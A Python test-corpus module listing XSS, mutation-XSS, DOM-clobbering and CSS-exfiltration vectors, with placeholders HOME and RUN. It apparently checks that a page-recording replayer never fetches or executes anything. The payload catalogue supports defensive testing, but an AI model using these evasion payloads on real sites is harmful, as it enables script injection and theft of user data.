"""The corpus of hostile pages: what a recording may say, and what must not come of it.

Each vector is one line of HTML or CSS; texts, and nodes that HTML cannot say, are in
`vectors_raw`. `HOME` stands for an address that must never be asked, `RUN` for a script
that must never run; `vector_nodes` puts both in, with the vector's number. Most are kinds
from OWASP's XSS filter evasion cheat sheet, html5sec.org, the mutation XSS found against
DOMPurify and sanitize-html, and the fetch destinations of the HTML standard.
"""

from __future__ import annotations


def lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines() if line.strip()]


SCRIPTS = lines("""
<script>RUN</script>
<script src="HOME/x.js"></script>
<script type="module">RUN</script>
<script type="importmap">{"imports":{"a":"HOME/x.js"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["HOME/x"]}]}</script>
<script nomodule>RUN</script>
<script src="data:text/javascript,RUN"></script>
<script async defer crossorigin nonce="x" src="HOME/x"></script>
<svg><script>RUN</script></svg>
<svg><script href="HOME/x.js"></script></svg>
<svg><script xlink:href="data:text/javascript,RUN"></script></svg>
<svg><SCRIPT>RUN</SCRIPT></svg>
<math><script>RUN</script></math>
<svg><a><foreignObject><script>RUN</script></foreignObject></a></svg>
<noscript><script>RUN</script></noscript>
<template><script>RUN</script></template>
<div><template shadowrootmode="open"><script>RUN</script><img src="HOME/x"></template></div>
<div><template shadowrootmode="closed" shadowrootserializable><img src=x onerror="RUN"></template></div>
<object><param name="code" value="RUN"><script>RUN</script></object>
""")

HANDLERS = lines("""
<img src="x" onerror="RUN">
<img src="data:,x" onerror="RUN" onload="RUN">
<IMG SRC="x" ONERROR="RUN">
<img src="x" onerror=RUN//>
<img/src="x"/onerror="RUN">
<img src="x" OnErRoR="RUN" alt="HOME">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">
<image src="x" onerror="RUN">
<body onload="RUN" onpageshow="RUN" onhashchange="RUN" onresize="RUN">
<body onbeforeunload="RUN" onunload="RUN" onmessage="RUN" onpopstate="RUN">
<frameset onload="RUN"><frame src="HOME/x"></frameset>
<svg onload="RUN"></svg>
<svg><g onload="RUN"></g></svg>
<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>
<svg><animate onend="RUN" attributeName="x" dur="0.01s"></animate></svg>
<svg><animate onrepeat="RUN" attributeName="x" dur="0.01s" repeatCount="9"></animate></svg>
<svg><set onbegin="RUN" attributeName="x" to="0"></set></svg>
<svg><discard onbegin="RUN"></discard></svg>
<svg><image href="x" onerror="RUN"></image></svg>
<svg><style onload="RUN">a{}</style></svg>
<math onclick="RUN" onfocus="RUN" tabindex="0"><mi>x</mi></math>
<details open ontoggle="RUN"><summary>x</summary></details>
<details ontoggle="RUN" open="" name="a"></details>
<video onerror="RUN"><source src="x" onerror="RUN"></video>
<video src="x" onerror="RUN" onloadstart="RUN" oncanplay="RUN"></video>
<audio src="x" onerror="RUN" autoplay></audio>
<audio src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEA" onloadedmetadata="RUN" onloadeddata="RUN"></audio>
<track onerror="RUN" src="HOME/x">
<input autofocus onfocus="RUN">
<input type="image" src="x" onerror="RUN">
<input type="checkbox" checked onchange="RUN" oninput="RUN">
<input required oninvalid="RUN">
<select autofocus onfocus="RUN"><option selected>x</option></select>
<textarea autofocus onfocus="RUN" onselect="RUN">x</textarea>
<button autofocus onfocus="RUN" onblur="RUN">x</button>
<a href="#" autofocus onfocusin="RUN" onfocusout="RUN">x</a>
<p tabindex="0" autofocus onfocus="RUN" contenteditable>x</p>
<keygen autofocus onfocus="RUN">
<isindex type="image" src="x" onerror="RUN">
<marquee onstart="RUN" onbounce="RUN" onfinish="RUN">x</marquee>
<style onload="RUN" onerror="RUN">a{}</style>
<link rel="stylesheet" href="data:text/css,a" onload="RUN" onerror="RUN">
<iframe onload="RUN"></iframe>
<iframe src="about:blank" onload="RUN"></iframe>
<object data="data:," onerror="RUN" onload="RUN"></object>
<embed src="data:," onload="RUN">
<div popover="auto" onbeforetoggle="RUN" ontoggle="RUN">x</div>
<button popovertarget="p" popovertargetaction="show" onclick="RUN">x</button>
<dialog open onclose="RUN" oncancel="RUN">x</dialog>
<dialog open rr_open_mode="modal" onfocus="RUN" autofocus>x</dialog>
<p style="animation:spin 1ms" onanimationstart="RUN" onanimationend="RUN">x</p>
<p style="transition:color 1ms" ontransitionrun="RUN" ontransitionend="RUN">x</p>
<p style="content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</p>
<p onscroll="RUN" onscrollend="RUN" onscrollsnapchange="RUN" style="overflow:scroll">x</p>
<p onmouseover="RUN" onpointerenter="RUN" onpointerrawupdate="RUN">x</p>
<p onclick="RUN" onmousedown="RUN" onmouseup="RUN" ondblclick="RUN">x</p>
<p onsecuritypolicyviolation="RUN" onslotchange="RUN" onbeforematch="RUN">x</p>
<x-run onconnected="RUN" onclick="RUN" style="display:block">x</x-run>
<slot onslotchange="RUN">x</slot>
<p _onclick="RUN" data-onclick="RUN" on="RUN" @click="RUN" x-on:click="RUN">x</p>
""")

# Where a URL may stand; each is tried with every one of ADDRESSES.
URL_PLACES = lines("""
<a href="URL" target="_top" ping="URL">x</a>
<a href="URL" target="_parent" download>x</a>
<svg><a href="URL"><text>x</text></a></svg>
<svg><a xlink:href="URL"><text>x</text></a></svg>
<math><mi href="URL" xlink:href="URL">x</mi></math>
<map><area href="URL" shape="default" ping="URL"></map>
<form action="URL" target="_top"><input type="submit"></form>
<form><button formaction="URL" formtarget="_top">x</button></form>
<form id="f"></form><button form="f" formaction="URL" type="submit">x</button>
<input type="submit" formaction="URL">
<isindex action="URL" type="submit">
<iframe src="URL"></iframe>
<iframe src="URL" sandbox="allow-scripts allow-top-navigation" allow="camera"></iframe>
<frame src="URL">
<embed src="URL">
<object data="URL" classid="URL" codebase="URL" archive="URL"></object>
<object><param name="src" value="URL"><embed src="URL"></object>
<applet code="URL" codebase="URL" archive="URL"></applet>
<img src="URL" longdesc="URL" lowsrc="URL" dynsrc="URL">
<img srcset="URL 1x, URL 2x" sizes="1px">
<picture><source srcset="URL"><img src="URL"></picture>
<img src="URL" attributionsrc="URL" loading="eager" fetchpriority="high">
<input type="image" src="URL">
<video src="URL" poster="URL" rr_src="URL"></video>
<video><source src="URL"><track src="URL" default></video>
<audio src="URL" autoplay></audio>
<bgsound src="URL">
<body background="URL">
<table background="URL"><tbody><tr><td background="URL">x</td></tr></tbody></table>
<link rel="stylesheet" href="URL">
<base href="URL" target="_top">
<blockquote cite="URL">x</blockquote>
<svg><image href="URL" xlink:href="URL"></image></svg>
<svg><use href="URL#a" xlink:href="URL#a"></use></svg>
<svg><feImage href="URL" xlink:href="URL"></feImage></svg>
<svg><pattern href="URL#a"></pattern><linearGradient href="URL#a"></linearGradient></svg>
<svg><textPath href="URL#a">x</textPath><mpath href="URL#a"></mpath></svg>
<svg><font-face-uri href="URL"></font-face-uri><cursor href="URL"></cursor></svg>
<svg><handler href="URL">RUN</handler><listener handler="URL"></listener></svg>
<svg><a><animate attributeName="href" values="URL;URL" dur="1ms" fill="freeze"></animate><text>x</text></a></svg>
<svg><a><set attributeName="xlink:href" to="URL"></set></a></svg>
<svg><a><animate attributeName="href" from="URL" to="URL" by="URL"></animate></a></svg>
<svg><image><set attributeName="href" to="URL"></set></image></svg>
<svg><image><animateMotion attributeName="href" values="URL"></animateMotion></image></svg>
<portal src="URL"></portal>
<fencedframe src="URL"></fencedframe>
<webview src="URL"></webview>
<xml src="URL"></xml>
<p xml:base="URL" profile="URL" usemap="URL" icon="URL" manifest="URL">x</p>
<del cite="URL">x</del>
""")

ADDRESSES = {
    "home": "HOME/x",
    "bare": "//HOST/x",
    "script": "javascript:RUN",
    "cased": "JaVaScRiPt:RUN",
    "tabbed": "java\tscr\nipt:RUN",
    "padded": "\x01 \x0bjavascript:RUN",
    "markup": "data:text/html,<script>RUN</script>",
    "image": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script>"
    "<image href='HOME/x'/></svg>",
}

LOADS = lines("""
<link rel="preload" as="script" href="HOME/x">
<link rel="modulepreload" href="HOME/x">
<link rel="prefetch" href="HOME/x">
<link rel="prerender" href="HOME/x">
<link rel="dns-prefetch" href="HOME/x">
<link rel="preconnect" href="HOME/x">
<link rel="icon" href="HOME/x">
<link rel="apple-touch-icon-precomposed" href="HOME/x">
<link rel="manifest" href="HOME/x">
<link rel="import" href="HOME/x">
<link rel="search" type="application/opensearchdescription+xml" href="HOME/x">
<link rel="alternate stylesheet" href="HOME/x" title="a">
<link rel="preload" as="image" imagesrcset="HOME/x 1x" imagesizes="1px">
<link rel="expect" href="#x" blocking="render">
<link rel="compression-dictionary" href="HOME/x">
<LINK REL="STYLESHEET" HREF="HOME/x">
<svg><link rel="stylesheet" href="HOME/x"></link></svg>
<meta http-equiv="refresh" content="0;url=HOME/x">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="Refresh" content="0; URL='data:text/html,<script>RUN</script>'">
<META HTTP-EQUIV="REFRESH" CONTENT="0;URL=HOME/x">
<meta http-equiv="set-cookie" content="a=b">
<meta http-equiv="content-security-policy" content="default-src *; report-uri HOME/x">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="default-style" content="a">
<meta http-equiv="origin-trial" content="x">
<meta name="referrer" content="unsafe-url">
<meta name="msapplication-config" content="HOME/x">
<html manifest="HOME/x"></html>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="<img src=HOME/x onerror=RUN>" sandbox="allow-scripts"></iframe>
<iframe src="about:srcdoc" srcdoc="&lt;svg onload=RUN&gt;"></iframe>
<iframe name="x" csp="script-src *" credentialless allow="*"></iframe>
<img rr_dataurl="HOME/x">
<img rr_dataURL="javascript:RUN" src="x">
<canvas rr_dataURL="HOME/x"></canvas>
<canvas rr_dataURL="data:text/html,<script>RUN</script>"></canvas>
<div data-src="HOME/x" is="x-run" itemscope itemtype="HOME/x">x</div>
<select><selectedcontent></selectedcontent><option><img src="HOME/x">x</option></select>
""")

# Text that HTML parsers take for something else the second time they read it.
MUTATING = lines("""
<noscript>&lt;/noscript&gt;&lt;img src=HOME/x onerror=RUN&gt;</noscript>
<noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>
<style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style>
<style><a title="</style><img src=x onerror=RUN>"></style>
<title>&lt;/title&gt;&lt;img src=HOME/x onerror=RUN&gt;</title>
<textarea>&lt;/textarea&gt;&lt;img src=HOME/x onerror=RUN&gt;</textarea>
<xmp>&lt;/xmp&gt;&lt;img src=HOME/x onerror=RUN&gt;</xmp>
<plaintext>&lt;img src=HOME/x onerror=RUN&gt;</plaintext>
<noembed>&lt;/noembed&gt;&lt;img src=HOME/x onerror=RUN&gt;</noembed>
<noframes>&lt;/noframes&gt;&lt;img src=HOME/x onerror=RUN&gt;</noframes>
<iframe>&lt;/iframe&gt;&lt;img src=HOME/x onerror=RUN&gt;</iframe>
<listing>&lt;img src=HOME/x onerror=RUN&gt;</listing>
<svg></p><style><a id="</style><img src=x onerror=RUN>"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form></mtext></math></form>
<svg><title><style><img src=x onerror=RUN></style></title></svg>
<svg><desc><noscript>&lt;img src=x onerror=RUN&gt;</noscript></desc></svg>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<math><maction actiontype="statusline#HOME/x" xlink:href="javascript:RUN">x</maction></math>
<math><semantics><annotation encoding="image/svg+xml">&lt;svg onload=RUN&gt;</annotation></semantics></math>
<select><style>&lt;/select&gt;&lt;img src=x onerror=RUN&gt;</style></select>
<option>&lt;style&gt;&lt;/option&gt;&lt;/select&gt;&lt;img src=x onerror=RUN&gt;</option>
<table><caption><svg><style><!--</style><a title="--&gt;&lt;img src=x onerror=RUN&gt;"></a></svg></caption></table>
<p>&lt;![CDATA[ &lt;img src=x onerror=RUN&gt; ]]&gt;</p>
<p>&lt;!--&gt;&lt;img src=x onerror=RUN&gt;--&gt;</p>
<p title="&quot;><img src=x onerror=RUN>" class="'><script>RUN</script>">x</p>
<p id="`><img src=x onerror=RUN>" lang="</p><script>RUN</script>">x</p>
""")

# DOM clobbering: what is read from the recorded document, or is an id of our page.
CLOBBERING = [
    *(f'<form><input name="{name}" id="{name}"></form>' for name in (
        "attributes", "childNodes", "children", "parentNode", "nodeType", "ownerDocument",
        "firstChild", "removeChild", "appendChild", "setAttribute", "textContent", "style",
        "classList", "contains", "isConnected", "nextSibling", "innerHTML", "nodeName",
    )),
    *(f'<img name="{name}" id="{name}">' for name in (
        "body", "head", "documentElement", "contentDocument", "defaultView", "styleSheets",
        "adoptedStyleSheets", "getElementById", "querySelector", "querySelectorAll",
        "getAnimations", "createElement", "createElementNS", "activeElement", "location",
        "implementation", "about", "dock-body", "replaytest", "scrollingElement", "write",
    )),
    '<form name="body"><input name="appendChild"></form>',
    '<iframe name="replaytest"></iframe>',
    '<iframe name="parent"></iframe>',
    '<a id="replaytest" name="ready" href="HOME/x">x</a>',
    '<object name="about" id="about" data="HOME/x"></object>',
    '<embed name="getSelection" src="HOME/x">',
    '<p id="constructor" class="__proto__ prototype hasOwnProperty">x</p>',
]  # fmt: skip

CSS = lines("""
p { background: url(HOME/x) }
p { background: URL( 'HOME/x' ) }
p { background: url("HOME/x }
p { background: u\\72l(HOME/x) }
p { background: \\75\\52\\6c(HOME/x) }
p { background: u\\000072 l("HOME/x") }
p { background: url(\\48OME/x) }
p { background: url(/*"*/HOME/x) }
p { background: /*url('*/ url(HOME/x) /*')*/ }
p { background: image-set("HOME/x" 1x) }
p { background: image-set('HOME/x' type('image/png'), "HOME/y" 2x) }
p { background: -webkit-image-set(url(HOME/x) 1x) }
p { background: ima\\000067e-set("HOME/x" 1x) }
p { background: i\\00006dage-set("HOME/x" 1x) }
p { background: image-se\\000074("HOME/x" 1x) }
p { --u: "HOME/x"; background: image-set(var(--u) 1x) }
p { background: image-set(env(none, "HOME/x") 1x) }
p { background: image-set("data:,\\"" 1x, "HOME/x" 2x) }
p { background: image-set(/*"*/ "HOME/x" 1x /*"*/) }
p { background: image-set("HOME/)" 1x) }
p { background: image-set("HOME/((((" 1x) }
p { background: image-set("HOME/x
p { background: image-set("HOME/x" calc(1x * (1 + (0 + (0 + (0)))))) }
p { background: -webkit-cross-fade(url(HOME/x), url(HOME/y), 50%) }
p { background: cross-fade(image-set("HOME/x" 1x), red) }
p { background: image("HOME/x", red) }
p { background: src("HOME/x") }
p { background: src(var(--u)) ; --u: "HOME/x" }
p { background: paint(x), element(#HOME) }
p { --v: url(HOME/x); background: var(--v) }
p { border-image: url(HOME/x) 1; list-style: url(HOME/y); mask: url(HOME/z) }
p { cursor: url(HOME/x), auto; filter: url(HOME/y#a); clip-path: url(HOME/z#a) }
p::before { content: url(HOME/x) / "x" }
p { content: "x" url(HOME/x) }
p { shape-outside: url(HOME/x); offset-path: url(HOME/y#a); backdrop-filter: url(HOME/z#a) }
@import "HOME/x";
@import url(HOME/x) layer(a) supports(display: grid) screen;
@import 'HOME/x
@\\69mport "HOME/x";
@\\000069mport "HOME/x";
@im\\70 ort "HOME/x";
@IMPORT/**/"HOME/x";
@charset "utf-8"; @import "HOME/x";
@layer a; @import "HOME/x";
@namespace x url(HOME/x); @import "HOME/y";
/* " */ @import "HOME/x"; /* " */
/* */@import"HOME/x";/*
@font-face { font-family: f; src: url(HOME/x) format("woff2") } p { font-family: f }
@font-face { font-family: g; src: url("HOME/}") } p { font-family: g }
@font-\\66 ace { font-family: h; src: url(HOME/x) } p { font-family: h }
@font-face { font-family: i; src: local("x"), url(HOME/x) tech(variations) } * { font-family: i }
@counter-style c { system: cyclic; symbols: url(HOME/x) } p { list-style: c }
@property --p { syntax: "<url>"; inherits: false; initial-value: url(HOME/x) } p { background: var(--p) }
@media all { @supports (color: red) { p { background: url(HOME/x) } } }
@container (width > 1px) { p { background: url(HOME/x) } }
@starting-style { p { background: url(HOME/x) } }
p { & span, & { background: url(HOME/x) } }
p { width: expression(RUN); behavior: url(HOME/x); -moz-binding: url(HOME/x#a) }
p { background: url(javascript:RUN); -ms-behavior: url(javascript:RUN) }
p { background-image: url(data:text/html,<script>RUN</script>) }
p { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='HOME/x'/></svg>") }
p[value^="a"] { background: url(HOME/a) } input[value$="b"] { background: url(HOME/b) }
a:visited { background: url(HOME/x) } p:hover { background: url(HOME/x) }
html { background: url(HOME/x); scroll-behavior: smooth; view-transition-name: a }
p { color: red } </style><script>RUN</script><style>
p { color: red } <!-- @import "HOME/x"; -->
p { background: attr(data-u type(<url>), url(HOME/x)) }
@document url(HOME/x) { p { color: red } }
@view-transition { navigation: auto } p { background: url( HOME/x) }
""")
